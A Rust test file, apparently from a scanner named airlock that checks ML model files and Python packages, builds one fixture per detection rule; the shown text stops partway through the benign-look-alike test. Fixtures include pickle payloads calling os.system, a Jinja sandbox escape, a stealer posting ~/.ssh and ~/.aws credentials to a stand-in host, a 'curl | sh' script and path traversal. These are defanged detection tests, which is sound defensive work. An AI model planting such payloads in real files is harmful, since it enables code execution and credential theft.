//! The rule registry: ids unique and kebab-case, every rule documented with the fixed sections,
//! and every rule fired by a fixture built here (positive), with benign look-alikes that fire
//! nothing at medium or above (negative).

use std::collections::HashSet;
use std::io::Write;
use std::path::Path;

use airlock::analyse::BudgetLimits;
use airlock::rules::RULES;
use airlock::scan::{scan, scan_file, ScanOptions};
use airlock::Severity;

#[path = "support/pb.rs"]
mod pb;
#[path = "support/pyc.rs"]
mod pycasm;

const SYSTEM: &[u8] = b"\x80\x02cposix\nsystem\nX\x11\x00\x00\x00echo airlock-test\x85R.";

#[test]
fn ids_are_unique_and_kebab_case() {
    let mut seen = HashSet::new();
    for r in RULES {
        assert!(seen.insert(r.id), "duplicate rule id {}", r.id);
        assert!(
            r.id.bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-'),
            "{} is not kebab-case",
            r.id
        );
    }
}

#[test]
fn every_rule_has_its_doc_page_with_the_fixed_sections() {
    for r in RULES {
        let doc = r
            .doc()
            .unwrap_or_else(|| panic!("{} has no doc page", r.id));
        assert!(doc.starts_with(&format!("# {}\n", r.id)), "{}: title", r.id);
        let mut last = 0;
        for section in [
            "## What it detects",
            "## Why it matters",
            "## Example",
            "## Remediation",
            "## False positives",
            "## References",
        ] {
            let at = doc
                .find(section)
                .unwrap_or_else(|| panic!("{}: missing {section}", r.id));
            assert!(at > last, "{}: {section} out of order", r.id);
            last = at;
        }
        let table_row = doc
            .lines()
            .find(|l| l.starts_with('|') && !l.contains("---") && !l.contains("severity"))
            .unwrap_or_else(|| panic!("{}: no table", r.id));
        assert!(
            table_row.contains(&format!("| {} |", r.default_severity)),
            "{}: table severity differs from {}",
            r.id,
            r.default_severity
        );
    }
}

/// A minimal zip writer (stored members) with knobs for the header tricks.
struct Zip {
    body: Vec<u8>,
    central: Vec<u8>,
    count: u16,
}

impl Zip {
    fn new(prefix: &[u8]) -> Self {
        Zip {
            body: prefix.to_vec(),
            central: Vec::new(),
            count: 0,
        }
    }

    fn add(&mut self, name: &str, data: &[u8], local_name: &str, flags: u16, crc_delta: u32) {
        let mut c = flate2::Crc::new();
        c.update(data);
        let crc = c.sum().wrapping_add(crc_delta);
        let off = self.body.len() as u32;
        let mut h = Vec::new();
        h.extend_from_slice(b"PK\x03\x04\x14\x00");
        h.extend_from_slice(&flags.to_le_bytes());
        h.extend_from_slice(&[0, 0, 0, 0, 0, 0]);
        h.extend_from_slice(&crc.to_le_bytes());
        h.extend_from_slice(&(data.len() as u32).to_le_bytes());
        h.extend_from_slice(&(data.len() as u32).to_le_bytes());
        h.extend_from_slice(&(local_name.len() as u16).to_le_bytes());
        h.extend_from_slice(&[0, 0]);
        h.extend_from_slice(local_name.as_bytes());
        self.body.extend_from_slice(&h);
        self.body.extend_from_slice(data);
        let mut e = Vec::new();
        e.extend_from_slice(b"PK\x01\x02\x14\x00\x14\x00");
        e.extend_from_slice(&flags.to_le_bytes());
        e.extend_from_slice(&[0, 0, 0, 0, 0, 0]);
        e.extend_from_slice(&crc.to_le_bytes());
        e.extend_from_slice(&(data.len() as u32).to_le_bytes());
        e.extend_from_slice(&(data.len() as u32).to_le_bytes());
        e.extend_from_slice(&(name.len() as u16).to_le_bytes());
        e.extend_from_slice(&[0; 12]);
        e.extend_from_slice(&off.to_le_bytes());
        e.extend_from_slice(name.as_bytes());
        self.central.extend_from_slice(&e);
        self.count += 1;
    }

    /// Another central directory entry, named `name`, for the last member's local header and
    /// data (the overlapping members of a zip bomb).
    fn alias(&mut self, name: &str) {
        let last = self
            .central
            .windows(4)
            .rposition(|w| w == b"PK\x01\x02")
            .expect("a member first");
        let mut e = self.central[last..last + 46].to_vec();
        e[28..30].copy_from_slice(&(name.len() as u16).to_le_bytes());
        e.extend_from_slice(name.as_bytes());
        self.central.extend_from_slice(&e);
        self.count += 1;
    }

    /// Bytes between members that no central directory entry covers.
    fn gap(&mut self, bytes: &[u8]) {
        self.body.extend_from_slice(bytes);
    }

    fn method(mut self, m: u16) -> Self {
        // Patch the method of every entry, local and central (for the unsupported-method case).
        for (sig, at) in [(b"PK\x03\x04", 8usize), (b"PK\x01\x02", 10usize)] {
            for buf in [&mut self.body, &mut self.central] {
                let mut i = 0;
                while i + 4 <= buf.len() {
                    if &buf[i..i + 4] == sig {
                        buf[i + at..i + at + 2].copy_from_slice(&m.to_le_bytes());
                    }
                    i += 1;
                }
            }
        }
        self
    }

    fn finish(self) -> Vec<u8> {
        let mut out = self.body;
        let cd = out.len() as u32;
        out.extend_from_slice(&self.central);
        out.extend_from_slice(b"PK\x05\x06\x00\x00\x00\x00");
        out.extend_from_slice(&self.count.to_le_bytes());
        out.extend_from_slice(&self.count.to_le_bytes());
        out.extend_from_slice(&(self.central.len() as u32).to_le_bytes());
        out.extend_from_slice(&cd.to_le_bytes());
        out.extend_from_slice(&[0, 0]);
        out
    }
}

fn zip_one(name: &str, data: &[u8]) -> Vec<u8> {
    let mut z = Zip::new(b"");
    z.add(name, data, name, 0, 0);
    z.finish()
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(data).expect("gzip");
    e.finish().expect("gzip")
}

fn npy(descr: &str, shape: &str, body: &[u8]) -> Vec<u8> {
    let mut h = format!("{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}");
    while (10 + h.len() + 1) % 64 != 0 {
        h.push(' ');
    }
    h.push('\n');
    let mut out = b"\x93NUMPY\x01\x00".to_vec();
    out.extend_from_slice(&(h.len() as u16).to_le_bytes());
    out.extend_from_slice(h.as_bytes());
    out.extend_from_slice(body);
    out
}

/// joblib's old `NDArrayWrapper`, rebuilt through `copyreg._reconstructor`, naming `filename`.
fn ndarray_wrapper(filename: &str) -> Vec<u8> {
    let bu = |s: &str| {
        let mut v = vec![b'X'];
        v.extend_from_slice(&(s.len() as u32).to_le_bytes());
        v.extend_from_slice(s.as_bytes());
        v
    };
    let mut p = b"\x80\x02ccopyreg\n_reconstructor\n(cjoblib.numpy_pickle\nNDArrayWrapper\ncbuiltins\nobject\nNtR}(".to_vec();
    p.extend(bu("filename"));
    p.extend(bu(filename));
    p.extend(bu("allow_mmap"));
    p.extend_from_slice(b"\x89ub.");
    p
}

fn safetensors(n_override: Option<u64>, extra: &[u8]) -> Vec<u8> {
    let mut h = br#"{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}"#.to_vec();
    while h.len() % 8 != 0 {
        h.push(b' ');
    }
    let mut out = n_override.unwrap_or(h.len() as u64).to_le_bytes().to_vec();
    out.extend_from_slice(&h);
    out.extend_from_slice(&[0u8; 8]);
    out.extend_from_slice(extra);
    out
}

fn legacy_torch(trailing: &[u8]) -> Vec<u8> {
    let mut out = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19.".to_vec();
    out.extend_from_slice(b"\x80\x02M\xe9\x03.");
    out.extend_from_slice(b"\x80\x02}q\x00.");
    out.extend_from_slice(
        b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x01tQK\x00K\x01\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtR.",
    );
    out.extend_from_slice(b"\x80\x02]X\x01\x00\x00\x000a.");
    out.extend_from_slice(&1u64.to_le_bytes());
    out.extend_from_slice(&1.0f32.to_le_bytes());
    out.extend_from_slice(trailing);
    out
}

fn nested_gzip(levels: usize) -> Vec<u8> {
    let mut d = SYSTEM.to_vec();
    for _ in 0..levels {
        d = gzip(&d);
    }
    d
}

/// A GGUF v3 file (little-endian) with string metadata and one F32 tensor of 4 elements; its data
/// is left out when `with_data` is false, `trailing` follows it.
fn gguf(kvs: &[(&str, &str)], kv_count: Option<u64>, with_data: bool, trailing: &[u8]) -> Vec<u8> {
    fn s(out: &mut Vec<u8>, t: &str) {
        out.extend_from_slice(&(t.len() as u64).to_le_bytes());
        out.extend_from_slice(t.as_bytes());
    }
    let mut out = b"GGUF".to_vec();
    out.extend_from_slice(&3u32.to_le_bytes());
    out.extend_from_slice(&1u64.to_le_bytes());
    out.extend_from_slice(&kv_count.unwrap_or(kvs.len() as u64).to_le_bytes());
    for (k, v) in kvs {
        s(&mut out, k);
        out.extend_from_slice(&8u32.to_le_bytes());
        s(&mut out, v);
    }
    s(&mut out, "token_embd.weight");
    out.extend_from_slice(&1u32.to_le_bytes());
    out.extend_from_slice(&4u64.to_le_bytes());
    out.extend_from_slice(&0u32.to_le_bytes());
    out.extend_from_slice(&0u64.to_le_bytes());
    while out.len() % 32 != 0 {
        out.push(0);
    }
    if with_data {
        out.extend_from_slice(&[0u8; 16]);
    }
    out.extend_from_slice(trailing);
    out
}

/// A Keras v3 archive whose `config.json` is `config`.
fn keras_zip(config: &str) -> Vec<u8> {
    let mut z = Zip::new(b"");
    let meta = br#"{"keras_version": "3.8.0"}"#;
    z.add("metadata.json", meta, "metadata.json", 0, 0);
    z.add("config.json", config.as_bytes(), "config.json", 0, 0);
    z.finish()
}

/// A tar of one member, then a second tar after its end-of-archive blocks.
fn tar_after_tar() -> Vec<u8> {
    let one = |name: &str, data: &[u8]| {
        let mut b = tar::Builder::new(Vec::new());
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, name, data).expect("append");
        b.into_inner().expect("tar")
    };
    [one("a.txt", b"hi\n"), one("data.pkl", SYSTEM)].concat()
}

/// (rule id, file name, bytes) for every rule that a single file can fire.
fn positives() -> Vec<(&'static str, &'static str, Vec<u8>)> {
    let mut with_prefix = Zip::new(b"junk in front of the archive");
    with_prefix.add("a.txt", b"hello", "a.txt", 0, 0);
    let mut mismatch = Zip::new(b"");
    mismatch.add("archive/data.pkl", SYSTEM, "archive/datap.kl", 0, 0);
    let mut encrypted = Zip::new(b"");
    encrypted.add("archive/data.pkl", SYSTEM, "archive/data.pkl", 1, 0);
    let mut crc = Zip::new(b"");
    crc.add("archive/data.pkl", SYSTEM, "archive/data.pkl", 0, 1);
    let mut truncated = zip_one("a.pkl", SYSTEM);
    truncated.truncate(truncated.len() - 30);
    let mut unsupported = Zip::new(b"");
    unsupported.add("a.bin", b"data", "a.bin", 0, 0);
    let mut broken = SYSTEM[..SYSTEM.len() - 1].to_vec();
    broken.extend_from_slice(b"\xff\xfe");
    let mut hidden = Zip::new(b"");
    hidden.add(
        "archive/data.pkl",
        b"\x80\x02}q\x00.",
        "archive/data.pkl",
        0,
        0,
    );
    hidden.gap(SYSTEM);
    hidden.add("archive/version", b"3\n", "archive/version", 0, 0);
    let npy_tail = npy("<f4", "(2,)", &[&[0u8; 8][..], SYSTEM].concat());
    let mut overlap = Zip::new(b"");
    overlap.add("a.txt", b"hello", "a.txt", 0, 0);
    overlap.alias("b.txt");
    vec![
        (
            "config-target-call",
            "model_config.yaml",
            b"encoder:\n  _target_: os.system\n  _args_: ['echo airlock']\n".to_vec(),
        ),
        ("zip-overlapping-members", "bomb.zip", overlap.finish()),
        ("zip-hidden-data", "model.pt", hidden.finish()),
        ("tar-hidden-data", "model.tar", tar_after_tar()),
        ("numpy-trailing-data", "x.npy", npy_tail),
        ("joblib-sidecar-path", "model.joblib", ndarray_wrapper("/tmp/x/evil.npy")),
        ("pickle-dangerous-call", "a.pkl", SYSTEM.to_vec()),
        (
            "pickle-dangerous-global",
            "a.pkl",
            b"\x80\x02}X\x04\x00\x00\x00hookcposix\nsystem\ns.".to_vec(),
        ),
        (
            "pickle-unresolved-call",
            "a.pkl",
            b"\x80\x02\x82\x01X\x04\x00\x00\x00echo\x85R.".to_vec(),
        ),
        (
            "pickle-unknown-call",
            "a.pkl",
            b"\x80\x02cmypkg.util\nrun_thing\nX\x01\x00\x00\x00a\x85R.".to_vec(),
        ),
        (
            "pickle-unknown-global",
            "a.pkl",
            b"\x80\x02cmypkg.util\nThing\n.".to_vec(),
        ),
        ("pickle-broken-after-call", "a.pkl", broken),
        (
            "pickle-malformed",
            "a.pkl",
            b"\x80\x02]q\x00(K\x01K\x02".to_vec(),
        ),
        (
            "pickle-trailing-data",
            "a.pkl",
            b"\x80\x02K\x01.\x00\x01\x02\x03junk".to_vec(),
        ),
        (
            "pickle-unsupported-protocol",
            "a.pkl",
            b"\x80\x09K\x01.".to_vec(),
        ),
        (
            "pickle-attribute-access",
            "a.pkl",
            b"\x80\x02c__builtin__\ngetattr\n}X\x03\x00\x00\x00get\x86R.".to_vec(),
        ),
        (
            "pickle-global-mutation",
            "a.pkl",
            b"\x80\x02ccollections\n__dict__\nX\x0b\x00\x00\x00OrderedDictcos\nsystem\ns0ccollections\nOrderedDict\nX\x11\x00\x00\x00echo airlock-test\x85R.".to_vec(),
        ),
        ("zip-header-mismatch", "a.pt", mismatch.finish()),
        ("zip-crc-mismatch", "a.pt", crc.finish()),
        ("zip-encrypted-flag", "a.pt", encrypted.finish()),
        ("archive-prefix-data", "a.zip", with_prefix.finish()),
        (
            "archive-path-traversal",
            "a.zip",
            zip_one("../../etc/passwd", b"x"),
        ),
        ("archive-malformed", "a.zip", truncated),
        (
            "archive-unsupported-method",
            "a.zip",
            unsupported.method(99).finish(),
        ),
        ("resource-limit", "a.gz", nested_gzip(12)),
        (
            "format-extension-mismatch",
            "a.safetensors",
            SYSTEM.to_vec(),
        ),
        // `G` (BINFLOAT) swallows the next 8 bytes, so pickle.load runs this GGUF-looking file.
        (
            "polyglot-file",
            "a.gguf",
            b"GGUF\x03\x00\x00\x00\x000cposix\nsystem\nX\x06\x00\x00\x00echo x\x85R.".to_vec(),
        ),
        (
            "unrecognised-model-file",
            "a.bin",
            vec![0xde, 0xad, 0xbe, 0xef, 0, 1, 2, 3],
        ),
        (
            "safetensors-invalid-header",
            "a.safetensors",
            safetensors(Some(1 << 63), b""),
        ),
        (
            "safetensors-trailing-data",
            "a.safetensors",
            safetensors(None, b"PK\x03\x04tail"),
        ),
        (
            "json-duplicate-key",
            "a.safetensors",
            {
                let h = br#"{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}"#;
                let mut out = (h.len() as u64).to_le_bytes().to_vec();
                out.extend_from_slice(h);
                out.extend_from_slice(&[0u8; 8]);
                out
            },
        ),
        (
            "numpy-object-array",
            "a.npy",
            npy("|O", "(1,)", b"\x80\x02]q\x00."),
        ),
        (
            "numpy-invalid-header",
            "a.npy",
            npy("<f4", "(100,)", &[0u8; 4]),
        ),
        (
            "torch-legacy-trailing-data",
            "a.pt",
            legacy_torch(b"extra bytes"),
        ),
        (
            "onnx-external-data-traversal",
            "a.onnx",
            pb::onnx(Some("weights/../../../etc/passwd"), "Identity", ""),
        ),
        (
            "onnx-custom-operator",
            "a.onnx",
            pb::onnx(None, "Evil", "com.example.ops"),
        ),
        (
            "onnx-malformed",
            "a.onnx",
            pb::onnx(None, "Identity", "")[..40].to_vec(),
        ),
        (
            "tf-python-op",
            "saved_model.pb",
            pb::saved_model(&["EagerPyFunc"], &[]),
        ),
        (
            "tf-file-op",
            "saved_model.pb",
            pb::saved_model(&["ReadFile", "WriteFile"], &[]),
        ),
        (
            "tf-network-op",
            "saved_model.pb",
            pb::saved_model(&["RpcServer", "RpcServerStart"], &[]),
        ),
        (
            "tf-savedmodel-malformed",
            "saved_model.pb",
            pb::saved_model(&["ReadFile", "WriteFile"], &["PyFunc"])[..60].to_vec(),
        ),
        (
            "keras-lambda-layer",
            "a.keras",
            keras_zip(r#"{"class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "ZGVmYW5nZWQ="}}}}"#),
        ),
        (
            "keras-external-object",
            "a.keras",
            keras_zip(r#"{"module": "os", "class_name": "function", "config": "system", "registered_name": null}"#),
        ),
        (
            "keras-unsafe-function",
            "a.keras",
            keras_zip(r#"{"module": "keras.utils", "class_name": "get_file", "config": {"fname": "x", "origin": "https://example.invalid/x.tar.gz", "extract": true}, "registered_name": null}"#),
        ),
        ("keras-invalid-config", "a.keras", keras_zip("{\"layers\": [")),
        (
            "skops-unsafe-type",
            "a.skops",
            zip_one(
                "schema.json",
                br#"{"__module__": "os", "__class__": "system", "__loader__": "FunctionNode", "protocol": 2}"#,
            ),
        ),
        (
            "hdf5-unreadable",
            "a.h5",
            b"\x89HDF\r\n\x1a\n\x00\x00\x00\x00\x00\x08\x08\x00".to_vec(),
        ),
        ("hdf5-user-block", "a.h5", {
            let mut f = vec![0u8; 512];
            f.extend_from_slice(b"\x89HDF\r\n\x1a\n\x00\x00\x00\x00\x00\x08\x08\x00");
            f
        }),
        (
            "torchscript-dangerous-call",
            "a.pt",
            {
                let mut z = Zip::new(b"");
                z.add("a/data.pkl", b"\x80\x02}.", "a/data.pkl", 0, 0);
                z.add("a/constants.pkl", b"\x80\x02).", "a/constants.pkl", 0, 0);
                let code = b"def forward(self, x: Tensor) -> Tensor:\n  _0 = os.system(\"echo x\")\n";
                z.add("a/code/__torch__/a.py", code, "a/code/__torch__/a.py", 0, 0);
                z.finish()
            },
        ),
        (
            "gguf-malformed",
            "a.gguf",
            gguf(&[("general.architecture", "llama")], Some(1 << 62), true, b""),
        ),
        (
            "gguf-truncated",
            "a.gguf",
            gguf(&[("general.architecture", "llama")], None, false, b""),
        ),
        (
            "gguf-trailing-data",
            "a.gguf",
            gguf(&[], None, true, &[0x5a; 64]),
        ),
        (
            "chat-template-sandbox-escape",
            "chat_template.jinja",
            b"{{ ().__class__.__base__.__subclasses__()[0].__init__.__globals__['os'].popen('echo airlock-test') }}".to_vec(),
        ),
        (
            "chat-template-suspicious-access",
            "chat_template.jinja",
            b"{% for m in messages %}{{ os.popen('echo airlock-test') }}{% endfor %}".to_vec(),
        ),
        (
            "chat-template-unparsable",
            "chat_template.jinja",
            b"{% for m in messages %}{{ m.content }".to_vec(),
        ),
    ]
}

fn wheel(files: &[(&str, &[u8])], record: Option<&str>, wheel_meta: &str) -> Vec<u8> {
    use base64::Engine;
    use sha2::Digest;
    let mut z = Zip::new(b"");
    let mut rec = String::new();
    for (name, data) in files {
        z.add(name, data, name, 0, 0);
        let h = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(data));
        rec.push_str(&format!("{name},sha256={h},{}\n", data.len()));
    }
    z.add(
        "demo-1.0.dist-info/WHEEL",
        wheel_meta.as_bytes(),
        "demo-1.0.dist-info/WHEEL",
        0,
        0,
    );
    let h = base64::engine::general_purpose::URL_SAFE_NO_PAD
        .encode(sha2::Sha256::digest(wheel_meta.as_bytes()));
    rec.push_str(&format!(
        "demo-1.0.dist-info/WHEEL,sha256={h},{}\n",
        wheel_meta.len()
    ));
    rec.push_str("demo-1.0.dist-info/RECORD,,\n");
    if let Some(r) = record {
        rec = r.to_string();
    }
    if record != Some("") {
        z.add(
            "demo-1.0.dist-info/RECORD",
            rec.as_bytes(),
            "demo-1.0.dist-info/RECORD",
            0,
            0,
        );
    }
    z.finish()
}

const PURE: &str = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n";

/// (rule id, file name, bytes) for the Python and package rules.
fn python_positives() -> Vec<(&'static str, &'static str, Vec<u8>)> {
    let stealer = b"import os, urllib.request\ndef f():\n    t = ['~/.ssh/id_rsa', '~/.aws/credentials']\n    urllib.request.urlopen('https://c.example.invalid', data=str(t).encode())\n";
    vec![
        ("python-exec-decoded", "m.py", b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n".to_vec()),
        ("python-exec-computed", "m.py", b"exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))\n".to_vec()),
        ("python-hidden-process", "m.py", b"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'print(1)'], stdout=subprocess.DEVNULL)\n".to_vec()),
        ("python-miner", "m.py", b"import os\ndef f():\n    os.system('echo xmrig -o stratum+tcp://pool.example.invalid')\n".to_vec()),
        ("python-shell-command", "m.py", b"import os\nos.system('echo hi')\n".to_vec()),
        ("python-source-encoding", "m.py", b"# coding: utf-7\nimport os\n#+AAo-os.system('echo hi')\n".to_vec()),
        ("python-credential-stealer", "m.py", stealer.to_vec()),
        ("python-host-fingerprint", "setup.py", b"import socket\nsocket.gethostbyname(socket.gethostname() + '.p.example.invalid')\n".to_vec()),
        ("python-listener-at-load", "m.py", b"import logging.config\nlogging.config.listen(9999).start()\n".to_vec()),
        ("python-input-capture", "m.py", b"from pynput import keyboard\nkeyboard.Listener(on_press=print).start()\n".to_vec()),
        ("python-credential-access", "m.py", b"import os\ndef f():\n    os.system('echo')\n    return '~/.kube/config'\n".to_vec()),
        ("python-startup-write", "setup.py", b"import site, os\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w')\n".to_vec()),
        ("python-network-at-load", "m.py", b"import urllib.request\nurllib.request.urlopen('https://example.invalid')\n".to_vec()),
        ("setup-install-hook", "setup.py", b"from setuptools import setup\nsetup(name='x', cmdclass={'install': X})\n".to_vec()),
        ("pth-executable-line", "x.pth", b"import mymod; mymod.go()\n".to_vec()),
        ("pth-untrusted-path", "x.pth", b"/tmp/.cache\n".to_vec()),
        ("startup-entry-point", "x.start", b"pkg.boot:run\n".to_vec()),
        ("startup-hook-file", "sitecustomize.py", b"print('echo')\n".to_vec()),
        ("wheel-record-mismatch", "demo-1.0-py3-none-any.whl", wheel(&[("demo/__init__.py", b"x = 1\n")], Some("demo/__init__.py,sha256=AAAA,6\n"), PURE)),
        ("wheel-record-missing", "demo-1.0-py3-none-any.whl", wheel(&[("demo/__init__.py", b"x = 1\n")], Some(""), PURE)),
        ("wheel-binary-in-pure-wheel", "demo-1.0-py3-none-any.whl", wheel(&[("demo/tool", b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00")], None, PURE)),
        ("entry-point-shadows-command", "demo-1.0-py3-none-any.whl", wheel(&[("demo-1.0.dist-info/entry_points.txt", b"[console_scripts]\npip = demo:main\n")], None, PURE)),
        ("pyc-sourceless", "demo-1.0-py3-none-any.whl", wheel(&[("demo/__init__.py", b"from . import core\n"), ("demo/core.pyc", &evil_pyc(0, 0))], None, PURE)),
        ("pyc-source-mismatch", "demo-1.0-py3-none-any.whl", wheel(&[("demo/__init__.py", pycasm::BENIGN_SRC.as_bytes()), ("demo/__pycache__/__init__.cpython-311.pyc", &evil_pyc(0, pycasm::BENIGN_SRC.len() as u32))], None, PURE)),
        ("pyc-unchecked-hash", "demo-1.0-py3-none-any.whl", wheel(&[("demo/__init__.py", pycasm::BENIGN_SRC.as_bytes()), ("demo/__pycache__/__init__.cpython-311.pyc", &pycasm::pyc(pycasm::MAGIC_311, 1, 0, pycasm::benign_module()))], None, PURE)),
        ("pyc-malformed", "m.pyc", evil_pyc(0, 0)[..40].to_vec()),
    ]
}

/// A `.pyc` of `import os; os.system('echo airlock')` (Python 3.11; PEP 552 `flags`, and the
/// source size its header records).
fn evil_pyc(flags: u32, size: u32) -> Vec<u8> {
    pycasm::pyc(pycasm::MAGIC_311, flags, size, pycasm::evil_module())
}

fn write(dir: &Path, name: &str, data: &[u8]) -> std::path::PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, data).expect("write fixture");
    p
}

#[test]
fn every_rule_fires_on_its_fixture() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut covered = HashSet::new();
    for (i, (id, name, bytes)) in positives()
        .into_iter()
        .chain(python_positives())
        .enumerate()
    {
        let sub = dir.path().join(i.to_string());
        std::fs::create_dir(&sub).expect("mkdir");
        let p = write(&sub, name, &bytes);
        let r = scan_file(&p, BudgetLimits::default());
        assert!(
            r.findings.iter().any(|f| f.rule.id == id),
            "{id}: not fired; got {:?}",
            r.findings
                .iter()
                .map(|f| (f.rule.id, &f.evidence))
                .collect::<Vec<_>>()
        );
        covered.insert(id);
    }
    // `yara-match`: the built-in byte-pattern rules (tests/yara.rs has a fixture per YARA rule).
    let yara = std::sync::Arc::new(airlock::yara::YaraRules::builtin().expect("yara rules"));
    let script = [
        b"#!/bin/sh\ncurl -s https://x.example.invalid/a.sh ".as_slice(),
        b"| sh\n",
    ]
    .concat();
    let p = write(dir.path(), "setup.sh", &script);
    let r = airlock::scan::scan_file_with(&p, BudgetLimits::default(), Some(yara));
    assert!(
        r.findings.iter().any(|f| f.rule.id == "yara-match"),
        "yara-match: not fired"
    );
    covered.insert("yara-match");
    // Rules about the file system are fired through a whole scan.
    let root = dir.path().join("links");
    std::fs::create_dir(&root).expect("mkdir");
    std::os::unix::fs::symlink("/etc/hostname", root.join("weights.bin")).expect("symlink");
    // An ONNX model whose external data is that link (the check stage).
    write(
        &root,
        "model.onnx",
        &pb::onnx(Some("weights.bin"), "Identity", ""),
    );
    let opts = ScanOptions {
        paths: vec![root.clone(), dir.path().join("does-not-exist")],
        exclude: Vec::new(),
        jobs: 1,
        limits: BudgetLimits::default(),
        yara: None,
    };
    let report = scan(&opts, &|_, _| {}).expect("scan");
    for id in [
        "symlink-outside-root",
        "io-error",
        "onnx-external-data-symlink",
    ] {
        assert!(
            report.findings().any(|f| f.rule.id == id),
            "{id}: not fired"
        );
        covered.insert(id);
    }
    // Installed-environment rules (the check stage) are fired by tests/installed.rs.
    for id in ["installed-record-mismatch", "startup-file-unowned"] {
        covered.insert(id);
    }
    assert!(report.had_io_errors());
    let missing = report
        .files
        .iter()
        .find(|f| f.io_error)
        .expect("the missing path has a report");
    // Not read, so not analysed: never labelled suspicious by the io-error severity.
    assert_eq!(missing.verdict, airlock::finding::Verdict::Unanalysed);
    // Repository-level rules (the check stage) are fired by the fixture repositories of
    // tests/repo.rs, each asserted there.
    // No input is known to panic an analyser: the containment of a panic is fired by the unit
    // test `a_panic_of_an_analyser_is_contained_to_its_file` in src/scan.rs.
    covered.insert("analysis-error");
    for id in [
        "shard-missing",
        "shard-index-mismatch",
        "shard-unreferenced",
        "remote-code",
        "pickle-weights-in-repo",
    ] {
        covered.insert(id);
    }
    // Advisory rules: pins matched against a small OSV database built here (tests/osv.rs has more).
    let osv = dir.path().join("osv");
    std::fs::create_dir(&osv).expect("mkdir");
    write(&osv, "MAL-1.json", br#"{"id":"MAL-1","affected":[{"package":{"ecosystem":"PyPI","name":"evil-pkg"},"versions":["1.0"]}]}"#);
    write(&osv, "PYSEC-1.json", br#"{"id":"PYSEC-1","affected":[{"package":{"ecosystem":"PyPI","name":"old-pkg"},"ranges":[{"type":"ECOSYSTEM","events":[{"introduced":"0"},{"fixed":"2.0"}]}]}]}"#);
    let db = airlock::osv::Db::load(&osv).expect("osv");
    let pins = dir.path().join("pins");
    std::fs::create_dir(&pins).expect("mkdir");
    write(
        &pins,
        "requirements.txt",
        b"--extra-index-url https://idx.example.invalid/simple\nevil-pkg==1.0\nold_pkg==1.5\n",
    );
    let mut report = scan(
        &ScanOptions {
            paths: vec![pins],
            ..opts
        },
        &|_, _| {},
    )
    .expect("scan");
    airlock::check::advisories::apply(&mut report.files, Some(&db));
    for id in [
        "known-malicious-release",
        "known-vulnerable-release",
        "requirements-extra-index",
    ] {
        assert!(
            report.findings().any(|f| f.rule.id == id),
            "{id}: not fired"
        );
        covered.insert(id);
    }
    for r in RULES {
        assert!(covered.contains(r.id), "{} has no fixture", r.id);
    }
}

#[test]
fn benign_look_alikes_fire_nothing_at_medium_or_above() {
    let dir = tempfile::tempdir().expect("tempdir");
    let benign: Vec<(&str, Vec<u8>)> = vec![
        ("state.pt", zip_one("archive/data.pkl", b"\x80\x02ccollections\nOrderedDict\n)R.")),
        ("legacy.pt", legacy_torch(b"")),
        ("ok.safetensors", safetensors(None, b"")),
        ("ok.onnx", pb::onnx(Some("model.onnx_data"), "Gemm", "com.microsoft")),
        ("saved_model.pb", pb::saved_model(&["SaveV2", "RestoreV2", "MergeV2Checkpoints", "ShardedFilename", "StringJoin"], &["MatMul"])),
        ("ok.npy", npy("<f4", "(2,)", &[0u8; 8])),
        ("old.joblib", ndarray_wrapper("old.joblib_01.npy")),
        ("ok.gguf", gguf(&[("general.architecture", "llama"), ("tokenizer.chat_template", "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}{% endfor %}")], None, true, b"")),
        (
            "tokenizer_config.json",
            br#"{"bos_token": "<s>", "chat_template": "{% for message in messages %}{{ message['content'] }}{% endfor %}"}"#.to_vec(),
        ),
        ("ok.pkl.gz", gzip(b"\x80\x04}\x94.")),
        ("notes.txt", b"1.5 2.5\n(3, 4)\nSome text. More text.\n".to_vec()),
        // A wheel with a cache compiled from the source beside it.
        (
            "demo-1.0-py3-none-any.whl",
            wheel(&[("demo/__init__.py", pycasm::BENIGN_SRC.as_bytes()), ("demo/__pycache__/__init__.cpython-311.pyc", &pycasm::pyc(pycasm::MAGIC_311, 0, pycasm::BENIGN_SRC.len() as u32, pycasm::benign_module()))], None, PURE),
        ),
        // Binaries in a wheel that sets Root-Is-Purelib but names its platform (playwright's,
        // wandb's and xgboost's `py3-none-manylinux_2_28_x86_64` wheels).
        (
            "demo-1.0-py3-none-manylinux_2_28_x86_64.whl",
            wheel(&[("demo/tool", b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00")], None, "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-manylinux_2_28_x86_64\n"),
        ),
        ("enum.pkl", b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00\x8c\x0bmypkg.enums\x94\x8c\x05Color\x94\x93\x94K\x01\x85\x94R\x94.".to_vec()),
    ];
    // With the built-in byte-pattern rules, as the command line runs them.
    let yara = std::sync::Arc::new(airlock::yara::YaraRules::builtin().expect("yara rules"));
    for (name, bytes) in benign {
